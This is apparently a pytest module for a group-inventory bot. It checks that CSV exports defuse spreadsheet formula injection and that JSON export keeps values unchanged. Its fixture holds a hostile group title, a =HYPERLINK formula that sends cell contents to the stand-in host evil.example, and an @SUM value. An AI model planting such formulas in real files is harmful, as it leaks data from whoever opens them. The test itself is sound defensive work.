"""A group named to attack whoever reads the inventory: the CSV opens as text in a
spreadsheet, the terminal gets no control sequences, JSON stays the data."""

import asyncio
import csv
import io
import json

import pytest

from groupbot.cli import main
from groupbot.domain.events import BotStatusChanged, ChatRef, MessageKind, MessageSeen, Person
from groupbot.services.groups import GroupService
from groupbot.services.ingest import IngestService
from groupbot.storage.db import make_engine
from tests.clocks import now, suite_clock
from tests.ingest_helpers import commit
from tests.integration.test_cli import TZ

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
PURPOSE = "@SUM(A1:A9) 报送"
CHAT = -1001234567890


async def populate(url: str) -> None:
    engine = make_engine(url)
    clock = suite_clock(TZ)
    ingest, groups = IngestService(engine, clock), GroupService(engine, clock)
    chat = ChatRef(CHAT, HYPERLINK, "supergroup")
    await commit(ingest, [BotStatusChanged(chat, now(), "administrator", Person(1, "-王轩")),
                         MessageSeen(chat, now(), MessageKind.HUMAN, Person(1, "-王轩"))])
    await groups.set_purpose(CHAT, PURPOSE, 1)
    await groups.set_facts(CHAT, member_count=25, owner_name="+王轩")
    await engine.dispose()


@pytest.fixture
def hostile(db_url, monkeypatch):
    asyncio.run(populate(db_url))
    monkeypatch.setenv("GROUPBOT_DATABASE_URL", db_url)
    monkeypatch.chdir("/")
    return db_url


def test_export_csv_neutralises_formulas_and_keeps_numbers(hostile, capsys):
    assert main(["export", "--format", "csv"]) == 0
    (row,) = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["title"] == "'" + HYPERLINK and row["purpose"] == "'" + PURPOSE
    assert row["owner"] == "'+王轩"
    assert row["chat_id"] == str(CHAT) and row["member_count"] == "25"


def test_export_json_is_the_data_unchanged(hostile, capsys):
    assert main(["export"]) == 0
    (row,) = json.loads(capsys.readouterr().out)
    assert (row["title"], row["purpose"], row["owner"]) == (HYPERLINK, PURPOSE, "+王轩")


def test_digest_csv_table_neutralises_formulas(hostile):
    from groupbot.reports.digest_csv import table_csv
    from groupbot.services.digest import DigestService

    async def table():
        engine = make_engine(hostile)
        try:
            service = DigestService(engine, suite_clock(TZ))
            return table_csv(await service.table(service.today()))
        finally:
            await engine.dispose()

    header, cells = list(csv.reader(io.StringIO(asyncio.run(table()).decode("utf-8-sig"))))
    got = dict(zip(header, cells, strict=True))
    assert "'" + HYPERLINK in cells and "'" + PURPOSE in cells
    assert str(CHAT) in cells and not any(c.startswith(("=", "+", "@")) for c in got.values())
